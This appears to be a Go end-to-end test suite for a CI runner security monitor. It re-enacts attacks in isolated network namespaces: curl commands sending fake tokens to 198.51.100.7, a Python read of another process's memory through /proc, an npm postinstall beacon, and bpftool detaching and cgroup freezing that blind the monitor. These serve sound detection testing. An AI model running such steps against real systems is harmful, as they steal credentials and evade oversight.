package e2e

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/klauspost/compress/zstd"

	"github.com/org/edamame-posture/pkg/event"
	"github.com/org/edamame-posture/pkg/fact"
	"github.com/org/edamame-posture/pkg/judge"
)

// canaries are made-up secrets of known shapes, put together here so that no
// scanner takes this file for a leak.
func canaries() map[string]string {
	return map[string]string{
		"github": "gh" + "p_" + strings.Repeat("C4nary", 6),
		"npm":    "np" + "m_" + strings.Repeat("Wq7Zr2", 6),
		"aws":    "AK" + "IA" + "IOSFODNN7CANARYX",
		"jwt":    "ey" + "JhbGciOiJIUzI1NiJ9" + ".ey" + "JzdWIiOiJjYW5hcnkifQ" + ".c2lnbmF0dXJlLWNhbmFyeS12YWx1ZQ",
		"pass":   "Tr0ub4dor-canary-" + "9931-xyzzy",
	}
}

// A secret that a job handles must not be in any file that we write, nor in
// what we print, in any encoding that was tried.
func TestNoSecretReachesAnythingWeWrite(t *testing.T) {
	c := canaries()
	ns, listen := netns(t)
	var got []string
	serve(t, listen("tcp4", "198.51.100.7:8000"), http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { got = append(got, r.URL.String()) }))
	script := strings.Join([]string{
		"ip netns exec " + ns + " curl -s -H 'Authorization: Bearer " + c["jwt"] + "' 'http://198.51.100.7:8000/p?access_token=" + c["github"] + "' || true",
		"ip netns exec " + ns + " curl -s -u user:" + c["pass"] + " http://198.51.100.7:8000/ || true",
		"/bin/echo token=" + c["npm"] + " >/dev/null",
		"/bin/echo --password " + c["pass"] + " >/dev/null",
		"/bin/echo " + base64.StdEncoding.EncodeToString([]byte(c["github"])) + " >/dev/null",
		"env AWS_ACCESS_KEY_ID=" + c["aws"] + " NPM_TOKEN=" + c["npm"] + " /bin/true",
		"touch ./" + c["github"] + ".txt; mkdir d-" + c["npm"] + "; rm ./" + c["github"] + ".txt",
	}, "\n")
	need(t, "curl")
	w := run(t, options{env: []string{"GITHUB_TOKEN=" + c["github"], "GITHUB_JOB=" + c["npm"]}}, "sh", "-c", script)
	w.complete()
	if len(got) < 2 {
		t.Fatalf("the requests did not arrive: %q", got)
	}
	needles := map[string][]byte{}
	for name, v := range c {
		needles[name] = []byte(v)
		needles[name+" in base64"] = []byte(base64.StdEncoding.EncodeToString([]byte(v)))
		needles[name+", half of it"] = []byte(v[:len(v)/2+4])
	}
	search := func(where string, data []byte) {
		for name, n := range needles {
			if i := bytes.Index(data, n); i >= 0 {
				t.Errorf("%s holds the canary %s: ...%s...", where, name, data[max(i-60, 0):min(i+80, len(data))])
			}
		}
	}
	search("stderr", []byte(w.stderr))
	files := 0
	if err := filepath.WalkDir(w.dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		data, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		files++
		search(path, data)
		if strings.HasSuffix(path, ".zst") {
			dec, err := zstd.NewReader(bytes.NewReader(data))
			if err != nil {
				return err
			}
			defer dec.Close()
			plain, err := io.ReadAll(dec)
			if err != nil {
				return err
			}
			search(path+", decompressed", plain)
			if !bytes.Contains(plain, []byte("[redacted")) {
				t.Errorf("%s shows no redaction: the canaries were not there to be found", path)
			}
		}
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	if files < 6 {
		t.Errorf("only %d files were searched", files)
	}
}

// tj-actions: another process reads the memory of the runner's worker.
func TestTheMemoryOfRunnerWorkerReadByAnotherProcess(t *testing.T) {
	need(t, "python3")
	in := t.TempDir()
	worker := filepath.Join(in, "Runner.Worker")
	copyFile(t, "/bin/sleep", worker)
	script := worker + ` 30 & p=$!; sleep 0.3; sudo -n true 2>/dev/null; python3 - $p <<'PY'
import re,sys
p=sys.argv[1]
m=open('/proc/'+p+'/maps').read().splitlines()
a=[l for l in m if '[heap]' in l or 'rw-p' in l][0].split('-')[0]
f=open('/proc/'+p+'/mem','rb'); f.seek(int(a,16)); f.read(64)
PY
kill $p`
	w := run(t, options{in: in}, "sh", "-c", script)
	w.complete()
	f := w.finding("d1-runner-memory")
	if f == nil {
		w.must(false, "no finding d1-runner-memory; findings: %+v", w.verdict.Findings)
		return
	}
	w.must(strings.Contains(filepath.Base(f.Actor.Exe), "python"), "the actor is %s", f.Actor.Exe)
	w.must(f.Severity == "critical" && w.verdict.Score >= 90 && w.verdict.Verdict == "fail", "severity %s, score %d, verdict %s", f.Severity, w.verdict.Score, w.verdict.Verdict)
	w.must(w.code == 3, "exit code %d, want 3", w.code)
	w.must(len(f.Leaves) > 0 && f.Do != "", "leaves %v, do %q", f.Leaves, f.Do)
}

// GhostAction: a secret as an argument of curl, sent out.
func TestASecretInArgvThatIsSentOut(t *testing.T) {
	need(t, "curl")
	ns, listen := netns(t)
	serve(t, listen("tcp4", "198.51.100.7:8000"), http.NotFoundHandler())
	w := run(t, options{}, "ip", "netns", "exec", ns, "curl", "-s", "-X", "POST", "-d", "TOKEN="+canaries()["github"], "http://198.51.100.7:8000/collect")
	w.complete()
	f := w.finding("d3-secret-in-argv-egress")
	if f == nil {
		w.must(false, "no finding; findings: %+v", w.verdict.Findings)
		return
	}
	w.must(strings.Contains(f.Object, "198.51.100.7:8000"), "the object is %s", f.Object)
}

// A beacon from the install script of an npm package, through the real npm.
func TestABeaconFromAnNpmLifecycleScript(t *testing.T) {
	need(t, "npm", "node")
	ns, listen := netns(t)
	serve(t, listen("tcp4", "198.51.100.7:8443"), http.NotFoundHandler())
	in := t.TempDir()
	pkg := filepath.Join(in, "pkg")
	if err := os.MkdirAll(pkg, 0o755); err != nil {
		t.Fatal(err)
	}
	for name, text := range map[string]string{
		"package.json":     `{"name":"watched","version":"1.0.0","dependencies":{"beacon":"file:pkg"}}`,
		"pkg/package.json": `{"name":"beacon","version":"1.0.0","scripts":{"postinstall":"node beacon.js"}}`,
		"pkg/beacon.js":    `require('http').get('http://198.51.100.7:8443/x', r => r.resume()).on('error', () => {})`,
	} {
		if err := os.WriteFile(filepath.Join(in, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	w := run(t, options{in: in, env: []string{"npm_config_cache=" + t.TempDir()}}, "ip", "netns", "exec", ns,
		"npm", "install", "--offline", "--install-links", "--no-audit", "--no-fund", "--foreground-scripts")
	if w.code != 0 && w.code != 3 {
		t.Fatalf("npm install: %s\n%s", w.stdout, w.stderr)
	}
	w.complete()
	var hit bool
	for _, f := range w.verdict.Findings {
		hit = hit || strings.Contains(f.Rule, "lifecycle") && strings.Contains(f.Object, "198.51.100.7:8443") && f.Actor.Exe != ""
	}
	w.must(hit, "no finding of the beacon; findings: %+v", w.verdict.Findings)
}

// Whoever detaches the sensor leaves a verdict that is no pass.
func TestDetachedProgramsGivePartialCoverage(t *testing.T) {
	need(t, "bpftool")
	policy := filepath.Join(t.TempDir(), "posture.yml")
	if err := os.WriteFile(policy, []byte("version: 1\negress: []\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	cmd, stderr, in := begin(t, options{flags: []string{"--intent", policy}}, "sh", "-c", "echo ready; sleep 3")
	detached := 0
	for _, l := range cgroupLinks(t, monitorOf(t, cmd.Process.Pid)) {
		if out, err := exec.Command("bpftool", "link", "detach", "id", l).CombinedOutput(); err == nil {
			detached++
		} else {
			t.Logf("link %s: %v %s", l, err, out)
		}
	}
	if detached == 0 {
		t.Fatal("no link could be detached: the test shows nothing")
	}
	code := wait(t, cmd)
	w := loaded(t, in)
	w.stderr, w.code = stderr.String(), code
	if w.verdict == nil {
		t.Fatalf("no verdict: %s", w.stderr)
	}
	w.must(w.verdict.Coverage.State == "partial", "coverage is %s after %d links were detached", w.verdict.Coverage.State, detached)
	w.must(w.verdict.Verdict != "pass", "the verdict is pass")
	var egress []judge.Gap
	for _, g := range w.verdict.Coverage.Gaps {
		if strings.Contains(g.What, "on_egress was detached") {
			egress = append(egress, g)
		}
	}
	w.must(len(egress) == 1 && egress[0].To > egress[0].From && strings.HasSuffix(egress[0].What, "armed again"),
		"one gap with its span should say what was blind and that it was armed again: %+v", egress)
	var said bool
	for _, o := range w.verdict.Coverage.Outside {
		said = said || o.What == "bpf detach from outside"
	}
	f := w.finding("monitor-attack")
	w.must(said && f != nil && strings.HasSuffix(f.Actor.Exe, "bpftool"), "who did it from outside is not told: %+v, outside %+v", f, w.verdict.Coverage.Outside)
}

// cgroupLinks returns the ids of the cgroup links that a process holds, and of
// no other's: other monitors may run on this machine.
func cgroupLinks(t *testing.T, pid int) []string {
	t.Helper()
	held, err := filepath.Glob(fmt.Sprintf("/proc/%d/fdinfo/*", pid))
	if err != nil {
		t.Fatal(err)
	}
	var ids []string
	for _, path := range held {
		info, err := os.ReadFile(path)
		if err != nil {
			continue // closed meanwhile
		}
		about := map[string]string{}
		for line := range strings.Lines(string(info)) {
			if name, value, ok := strings.Cut(line, ":"); ok {
				about[name] = strings.TrimSpace(value)
			}
		}
		if about["link_type"] == "cgroup" {
			ids = append(ids, about["link_id"])
		}
	}
	return ids
}

// The frozen monitor: a stop of two seconds is a gap.
func TestAMonitorThatWasStoppedSaysSo(t *testing.T) {
	cmd, stderr, in := begin(t, options{}, "sh", "-c", "echo ready; sleep 5")
	mon := monitorOf(t, cmd.Process.Pid)
	for _, step := range []string{"-STOP", "-CONT"} {
		if out, err := exec.Command("kill", step, strconv.Itoa(mon)).CombinedOutput(); err != nil {
			t.Fatalf("%v %s", err, out)
		}
		if step == "-STOP" {
			time.Sleep(2500 * time.Millisecond) // the span that must show
		}
	}
	wait(t, cmd)
	w := loaded(t, in)
	w.stderr = stderr.String()
	if w.verdict == nil {
		t.Fatalf("no verdict: %s", w.stderr)
	}
	var stopped, said bool
	for _, g := range w.verdict.Coverage.Gaps {
		stopped = stopped || strings.Contains(g.What, "the monitor did not run for ") && g.To-g.From >= int64(2*time.Second)
	}
	for _, o := range w.verdict.Coverage.Outside {
		said = said || strings.Contains(o.What, "signal 19")
	}
	w.must(w.verdict.Coverage.State == "partial" && stopped, "no gap says how long it was stopped: %+v", w.verdict.Coverage)
	w.must(said && w.finding("monitor-attack") != nil, "who stopped it from outside is not told: %+v", w.verdict.Findings)
}

// freezer puts a process into a cgroup of its own and returns what freezes and
// thaws it there, by whichever kind of cgroup the machine has.
func freezer(t *testing.T, pid int) (freeze, thaw func()) {
	t.Helper()
	for _, kind := range []struct{ at, file, cold, warm string }{
		{"/sys/fs/cgroup/freezer", "freezer.state", "FROZEN", "THAWED"},
		{"/sys/fs/cgroup/unified", "cgroup.freeze", "1", "0"},
		{"/sys/fs/cgroup", "cgroup.freeze", "1", "0"},
	} {
		dir := filepath.Join(kind.at, fmt.Sprintf("posture-test-%d", pid))
		if os.Mkdir(dir, 0o755) != nil {
			continue
		}
		t.Cleanup(func() { _ = os.Remove(dir) }) // it is empty when the process has ended
		if _, err := os.Stat(filepath.Join(dir, kind.file)); err != nil {
			continue
		}
		set := func(value string) func() {
			return func() {
				t.Helper()
				if err := os.WriteFile(filepath.Join(dir, kind.file), []byte(value), 0o644); err != nil {
					t.Error(err)
				}
			}
		}
		if err := os.WriteFile(filepath.Join(dir, "cgroup.procs"), []byte(strconv.Itoa(pid)), 0o644); err == nil {
			return set(kind.cold), set(kind.warm)
		}
	}
	t.Skip("no cgroup can be made that freezes")
	return nil, nil
}

// The same by a cgroup that is frozen: no signal says so.
func TestAMonitorInAFrozenCgroupSaysSo(t *testing.T) {
	cmd, stderr, in := begin(t, options{}, "sh", "-c", "echo ready; sleep 5")
	freeze, thaw := freezer(t, monitorOf(t, cmd.Process.Pid))
	freeze()
	time.Sleep(2500 * time.Millisecond) // the span that must show
	thaw()
	wait(t, cmd)
	w := loaded(t, in)
	w.stderr = stderr.String()
	if w.verdict == nil {
		t.Fatalf("no verdict: %s", w.stderr)
	}
	w.must(w.verdict.Coverage.State == "partial" && slices.ContainsFunc(w.verdict.Coverage.Gaps, func(g judge.Gap) bool {
		return strings.Contains(g.What, "the monitor did not run for ") && g.To-g.From >= int64(2*time.Second)
	}), "no gap says how long it was frozen: %+v", w.verdict.Coverage)
}

func TestTheNetlinkSensorSeesLessAndSaysWhat(t *testing.T) {
	w := run(t, options{flags: []string{"--sensor", "netlink"}}, "sh", "-c", "ls / >/dev/null; sleep 0.2; date >/dev/null")
	if w.verdict == nil {
		t.Fatalf("no verdict: %s", w.stderr)
	}
	w.must(w.verdict.Coverage.Sensor == "netlink", "the sensor is %s", w.verdict.Coverage.Sensor)
	w.must(len(w.verdict.Coverage.Unseen) > 0, "it does not say what it cannot see")
	execs := 0
	for _, e := range w.events {
		if e.Kind == event.Exec {
			execs++
		}
	}
	w.must(execs >= 3, "%d execs were seen", execs)
}

// What an agent of another user's, or root outside the job, does to the job.
func TestAnOutsiderThatActsOnTheJobIsTold(t *testing.T) {
	cmd, stderr, in := begin(t, options{}, "sh", "-c", "echo ready; echo $$ > pid; exec sleep 2")
	var pid string
	for deadline := time.Now().Add(5 * time.Second); pid == "" && time.Now().Before(deadline); time.Sleep(5 * time.Millisecond) {
		b, _ := os.ReadFile(filepath.Join(in, "pid"))
		pid = strings.TrimSpace(string(b))
	}
	if out, err := exec.Command("kill", "-USR1", pid).CombinedOutput(); err != nil {
		t.Fatalf("%v %s", err, out)
	}
	wait(t, cmd)
	w := loaded(t, in)
	w.stderr = stderr.String()
	var told bool
	for _, e := range w.events {
		told = told || e.Kind == event.Kill && e.Via == event.ViaOutside && fmt.Sprint(e.Target.PID) == pid && e.Signal == 10
	}
	w.must(told, "the signal from outside is not in the log")
	w.must(len(w.verdict.Coverage.Outside) == 1 && strings.Contains(w.verdict.Coverage.Outside[0].What, "signal 10"), "coverage does not say it: %+v", w.verdict.Coverage.Outside)
}

// Lineage survives what is meant to break it.
func TestLineageSurvives(t *testing.T) {
	for _, c := range []struct{ name, script string }{
		{"a double fork with setsid", "setsid sh -c '(sleep 0.2; /bin/echo MARK >/dev/null) & ' ; sleep 0.6"},
		{"an empty environment", "env -i /bin/sh -c '/bin/echo MARK >/dev/null'"},
		{"a chain of execs", "exec sh -c 'exec sh -c \"exec /bin/echo MARK\"' >/dev/null"},
		{"sudo", "sudo -n /bin/echo MARK >/dev/null"},
		{"another network namespace", "unshare -n /bin/echo MARK >/dev/null"},
		{"another pid namespace", "unshare -p -f /bin/echo MARK >/dev/null"},
	} {
		t.Run(c.name, func(t *testing.T) {
			w := run(t, options{}, "bash", "-c", c.script)
			if w.verdict == nil {
				t.Fatalf("no verdict: %s", w.stderr)
			}
			names := w.lineage(func(e *event.Event) bool { return len(e.Argv) == 2 && e.Argv[1].String() == "MARK" })
			w.must(len(names) >= 2 && anyContains(names, "edamame-posture"), "the lineage is %q, and must reach up to us; execs: %q", names, w.execs())
		})
	}
}

func TestDNSQuestionsAndAnswersNameDestinations(t *testing.T) {
	need(t, "curl")
	ns, listen := netns(t)
	serve(t, listen("tcp4", "198.51.100.7:8000"), http.NotFoundHandler())
	answer(t, ns, "127.0.0.53:53", "drop.example.com", net.IPv4(198, 51, 100, 7))
	// `ip netns exec` binds /etc/netns/NAME/resolv.conf over the system's.
	dir := filepath.Join("/etc/netns", ns)
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Skipf("a resolver for the namespace cannot be set: %v", err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	if err := os.WriteFile(filepath.Join(dir, "resolv.conf"), []byte("nameserver 127.0.0.53\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	w := run(t, options{}, "ip", "netns", "exec", ns, "curl", "-s", "http://drop.example.com:8000/")
	w.complete()
	w.must(anyContains(w.facts(fact.Connect), "drop.example.com:8000"), "destinations: %q", w.facts(fact.Connect))
	var question, reply bool
	for _, e := range w.events {
		if e.Kind == event.DNS && e.Name.String() == "drop.example.com" {
			question = question || !e.OK
			reply = reply || e.OK && len(e.Answers) > 0 && e.Answers[0].Addr.String() == "198.51.100.7"
		}
	}
	w.must(question && reply, "question %v, answer %v", question, reply)
}

// answer runs a DNS server in the namespace that knows one name.
func answer(t *testing.T, ns, addr, name string, ip net.IP) {
	t.Helper()
	var pc net.PacketConn
	if err := inNetns(ns, func() (err error) {
		pc, err = net.ListenPacket("udp4", addr)
		return err
	}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { pc.Close() })
	go func() {
		b := make([]byte, 1500)
		for {
			n, from, err := pc.ReadFrom(b)
			if err != nil {
				return
			}
			if n < 17 {
				continue
			}
			q := b[:n]
			end := 12
			for end < n && q[end] != 0 {
				end += int(q[end]) + 1
			}
			end += 5
			if end > n {
				continue
			}
			qtype := int(q[end-4])<<8 | int(q[end-3])
			r := append([]byte{}, q[:2]...)
			if qtype == 1 {
				r = append(r, 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0)
				r = append(r, q[12:end]...)
				r = append(r, 0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4)
				r = append(r, ip.To4()...)
			} else {
				r = append(r, 0x81, 0x80, 0, 1, 0, 0, 0, 0, 0, 0)
				r = append(r, q[12:end]...)
			}
			_, _ = pc.WriteTo(r, from)
		}
	}()
}

func copyFile(t *testing.T, from, to string) {
	t.Helper()
	b, err := os.ReadFile(from)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(to, b, 0o755); err != nil {
		t.Fatal(err)
	}
}
